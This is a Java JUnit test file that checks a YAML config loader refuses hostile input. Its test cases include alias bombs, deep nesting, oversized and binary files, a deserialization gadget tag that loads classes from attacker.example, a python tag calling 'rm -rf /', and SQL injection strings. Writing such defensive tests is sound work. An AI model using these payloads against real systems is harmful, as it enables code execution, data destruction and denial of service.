package dev.ingot.core.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.ingot.core.ConfigProblem;
import dev.ingot.core.ExitCode;
import dev.ingot.core.InvalidConfigException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile and malformed YAML (issue 17, item 4): alias bombs, deep nesting, huge files, binary garbage, tags that
 * name classes, and names that try SQL injection. Each case writes one hostile file over a small valid project and
 * asserts that loading it fails quickly as bad input (exit code 2) with one problem that names the file, the key
 * path and the fix, on one line (no stack trace, no parser drawing). No Spark session is started: the loader runs
 * before any job, so nothing can be written.
 */
class HostileYamlTest {
    private static final String INGOT = "name: shop\n";
    private static final String ORDERS = "table: raw.orders\nevent_time: ts\n";
    private static final String SPEND = """
            source: orders
            entities: [customer_id]
            filter: amount > 0
            transformations:
              - {name: amount_cents, expr: amount * 100}
            aggregations:
              - {name: spend, function: sum, column: amount, windows: [1d]}
            """;
    private static final String CHECKS = """
            table: raw.orders
            checks:
              - {kind: completeness, column: order_id}
            """;
    private static final String INJECTION = "x`; DROP TABLE raw.orders; --";
    /** A refusal must come fast: a parser that expands a bomb or walks 50 MB would take far longer. */
    private static final long MAX_MILLIS = 5_000;

    @TempDir
    Path dir;

    record Hostile(String name, String file, Supplier<byte[]> content, String keyPath, List<String> found,
                   List<String> fix) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Hostile hostile(String name, String file, String text, String keyPath, List<String> found,
                                   List<String> fix) {
        return new Hostile(name, file, () -> text.getBytes(StandardCharsets.UTF_8), keyPath, found, fix);
    }

    private static Hostile hostileBytes(String name, String file, Supplier<byte[]> bytes, String keyPath,
                                        List<String> found, List<String> fix) {
        return new Hostile(name, file, bytes, keyPath, found, fix);
    }

    static Stream<Hostile> hostileFiles() {
        return Stream.of(
                // ---- alias bombs, nesting, size ----
                hostile("alias bomb (billion laughs) in a feature view", "feature_views/spend.yaml", billionLaughs(),
                        "lol0", List.of("anchor &l0", "not read"), List.of("write the value out in full")),
                hostile("alias bomb in ingot.yaml", "ingot.yaml", INGOT + billionLaughs().replace("source: orders\n"
                                + "entities: [customer_id]\n", ""),
                        "lol0", List.of("anchor &l0", "not read"), List.of("write the value out in full")),
                hostile("one alias of a scalar", "sources/orders.yaml", "table: &t raw.orders\nevent_time: *t\n",
                        "event_time", List.of("alias *t"), List.of("aliases (*name)")),
                hostile("an alias of an undefined anchor", "sources/orders.yaml", "table: raw.orders\nevent_time: *ts\n",
                        "event_time", List.of("alias *ts"), List.of("aliases (*name)")),
                hostile("a merge key of an anchored mapping", "feature_views/spend.yaml",
                        "base: &b {source: orders}\n<<: *b\nentities: [customer_id]\n", "base",
                        List.of("anchor &b"), List.of("anchors (&name)")),
                hostile("10,000 nested flow lists", "feature_views/spend.yaml",
                        SPEND + "description: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n",
                        "description*", List.of("more than 32 levels deep"), List.of("flatten it")),
                hostile("10,000 nested flow mappings", "ingot.yaml",
                        INGOT + "spark: " + "{a: ".repeat(10_000) + "1" + "}".repeat(10_000) + "\n",
                        "spark*", List.of("more than 32 levels deep"), List.of("flatten it")),
                hostile("100 nested block mappings", "checks/orders_checks.yaml", deepBlock(100),
                        "checks*", List.of("more than 32 levels deep"), List.of("flatten it")),
                hostile("10,000 nested block mappings (50 MB of indentation)", "checks/orders_checks.yaml",
                        deepBlock(10_000), "", List.of("MB, more than the 1 MB a definition file may hold"),
                        List.of("keep definitions small")),
                hostile("50 MB file of one quoted scalar", "sources/orders.yaml",
                        ORDERS + "description: \"" + "x".repeat(50 << 20) + "\"\n",
                        "", List.of("is 50.0 MB, more than the 1 MB"), List.of("keep definitions small")),
                hostile("2 MB file of many short lines", "ingot.yaml", INGOT + "description: >\n" + "  words\n".repeat(300_000),
                        "", List.of("MB, more than the 1 MB"), List.of("keep definitions small")),
                // ---- binary garbage ----
                hostileBytes("random bytes", "sources/orders.yaml", HostileYamlTest::randomBytes, "",
                        List.of("is not UTF-8 text"), List.of("save it as UTF-8")),
                hostileBytes("a gzip file named .yaml", "feature_views/spend.yaml", HostileYamlTest::gzip, "",
                        List.of("is not UTF-8 text"), List.of("save it as UTF-8")),
                hostileBytes("NUL bytes in UTF-8 text", "checks/orders_checks.yaml",
                        () -> "table: raw.orders\u0000\u0000\nchecks: []\n".getBytes(StandardCharsets.UTF_8), "",
                        List.of("special characters are not allowed"), List.of("YAML syntax")),
                hostileBytes("Latin-1 text", "ingot.yaml",
                        () -> "name: shop\ndescription: caf\u00e9 cr\u00e8me\n".getBytes(StandardCharsets.ISO_8859_1), "",
                        List.of("is not UTF-8 text"), List.of("save it as UTF-8")),
                hostile("a class tag (deserialization gadget)", "sources/orders.yaml",
                        "table: raw.orders\nevent_time: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                                + " [[!!java.net.URL [\"http://attacker.example/\"]]]]\n",
                        "event_time", List.of("attacker.example", "not a string"), List.of("column")),
                hostile("a python tag", "feature_views/spend.yaml",
                        SPEND.replace("source: orders", "source: !!python/object/apply:os.system [\"rm -rf /\"]"),
                        "source", List.of("not a string"), List.of("name")),
                // ---- SQL injection through names and SQL text ----
                hostile("injection in an entity column", "feature_views/spend.yaml",
                        SPEND.replace("[customer_id]", "[\"" + INJECTION + "\"]"), "entities[0]",
                        List.of(INJECTION), List.of("letters")),
                hostile("injection in an aggregation column", "feature_views/spend.yaml",
                        SPEND.replace("column: amount", "column: \"" + INJECTION + "\""), "aggregations[0].column",
                        List.of(INJECTION), List.of("letters")),
                hostile("injection in a feature name", "feature_views/spend.yaml",
                        SPEND.replace("name: spend", "name: \"" + INJECTION + "\""), "aggregations[0].name",
                        List.of(INJECTION), List.of("letters")),
                hostile("injection in a transformation name", "feature_views/spend.yaml",
                        SPEND.replace("name: amount_cents", "name: \"" + INJECTION + "\""), "transformations[0].name",
                        List.of(INJECTION), List.of("letters")),
                hostile("statement after a filter", "feature_views/spend.yaml",
                        SPEND.replace("amount > 0", "\"amount > 0; DROP TABLE raw.orders; --\""), "filter",
                        List.of("not valid Spark SQL"), List.of("SQL predicate")),
                hostile("statement after a transformation", "feature_views/spend.yaml",
                        SPEND.replace("expr: amount * 100", "expr: \"amount); DROP TABLE raw.orders; --\""),
                        "transformations[0].expr", List.of("not valid Spark SQL"), List.of("expr")),
                hostile("injection in a source table", "sources/orders.yaml",
                        "table: \"raw.orders; DROP TABLE raw.orders\"\nevent_time: ts\n", "table",
                        List.of("raw.orders; DROP TABLE raw.orders"), List.of("database")),
                hostile("backticks in a source table", "sources/orders.yaml",
                        "table: \"raw.`orders` UNION SELECT 1\"\nevent_time: ts\n", "table",
                        List.of("UNION SELECT"), List.of("database")),
                hostile("injection in an event time column", "sources/orders.yaml",
                        "table: raw.orders\nevent_time: \"ts`, (SELECT 1) AS `x\"\n", "event_time",
                        List.of("SELECT 1"), List.of("letters")),
                hostile("injection in a schema column", "sources/orders.yaml",
                        "path: data/orders\nformat: csv\nschema:\n  \"" + INJECTION + "\": string\n  ts: timestamp\nevent_time: ts\n",
                        "schema." + INJECTION, List.of("not a valid column name"), List.of("letters")),
                hostile("injection in a check's table", "checks/orders_checks.yaml",
                        CHECKS.replace("table: raw.orders", "table: \"raw.orders; DELETE FROM raw.orders\""), "table",
                        List.of("DELETE FROM"), List.of("database")),
                hostile("injection in a check's column", "checks/orders_checks.yaml",
                        CHECKS.replace("column: order_id", "column: \"" + INJECTION + "\""), "checks[0].column",
                        List.of(INJECTION), List.of("letters")),
                hostile("injection in a project name", "ingot.yaml", "name: \"shop'; DROP DATABASE features; --\"\n",
                        "name", List.of("DROP DATABASE"), List.of("letters")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileFiles")
    void refusedQuicklyWithOneProblemNamingFileKeyAndFix(Hostile h) throws IOException {
        write("ingot.yaml", INGOT.getBytes(StandardCharsets.UTF_8));
        write("sources/orders.yaml", ORDERS.getBytes(StandardCharsets.UTF_8));
        write("feature_views/spend.yaml", SPEND.getBytes(StandardCharsets.UTF_8));
        write("checks/orders_checks.yaml", CHECKS.getBytes(StandardCharsets.UTF_8));
        ProjectLoader.load(dir, Map.of());  // the project is valid before the hostile file
        write(h.file(), h.content().get());

        long start = System.nanoTime();
        InvalidConfigException e = catchThrowableOfType(InvalidConfigException.class, () -> ProjectLoader.load(dir, Map.of()));
        long millis = (System.nanoTime() - start) / 1_000_000;

        assertThat(e).as(h.name() + ": refused").isNotNull();
        assertThat(millis).as(h.name() + ": refused in ms").isLessThan(MAX_MILLIS);
        assertThat(e.exitCode()).isEqualTo(ExitCode.BAD_INPUT);
        assertThat(e.problems()).as(h.name() + ": one problem, got\n" + e.getMessage()).hasSize(1);
        ConfigProblem p = e.problems().get(0);
        assertThat(p.file()).as(p.toString()).isEqualTo(h.file());
        if (h.keyPath().endsWith("*")) {
            assertThat(p.keyPath()).as(p.toString()).startsWith(h.keyPath().substring(0, h.keyPath().length() - 1));
        } else {
            assertThat(p.keyPath()).as(p.toString()).isEqualTo(h.keyPath());
        }
        assertThat(p.problem()).as(p.toString()).contains(h.found());
        assertThat(p.fix()).as(p.toString()).contains(h.fix());
        assertThat(p.toString()).as("one line").doesNotContain("\n").doesNotContain("Exception").hasSizeLessThan(2_000);
        assertThat(e.getMessage()).doesNotContain("\tat ");
    }

    private void write(String rel, byte[] bytes) throws IOException {
        Path f = dir.resolve(rel);
        Files.createDirectories(f.getParent());
        Files.write(f, bytes);
    }

    /** Nine levels of nine aliases each: 9^9 (387 million) strings once expanded. */
    private static String billionLaughs() {
        StringBuilder b = new StringBuilder("source: orders\nentities: [customer_id]\nlol0: &l0 [lol]\n");
        for (int i = 1; i <= 9; i++) {
            b.append("lol").append(i).append(": &l").append(i).append(" [");
            for (int j = 0; j < 9; j++) {
                b.append(j == 0 ? "" : ", ").append("*l").append(i - 1);
            }
            b.append("]\n");
        }
        return b.toString();
    }

    private static String deepBlock(int depth) {
        StringBuilder b = new StringBuilder("table: raw.orders\nchecks:\n");
        for (int i = 0; i < depth; i++) {
            b.append(" ".repeat(i + 1)).append("a:\n");
        }
        return b.append(" ".repeat(depth + 1)).append("b\n").toString();
    }

    private static byte[] randomBytes() {
        byte[] b = new byte[64 << 10];
        new Random(17).nextBytes(b);
        return b;
    }

    private static byte[] gzip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream z = new GZIPOutputStream(out)) {
            z.write(SPEND.repeat(100).getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return out.toByteArray();
    }
}
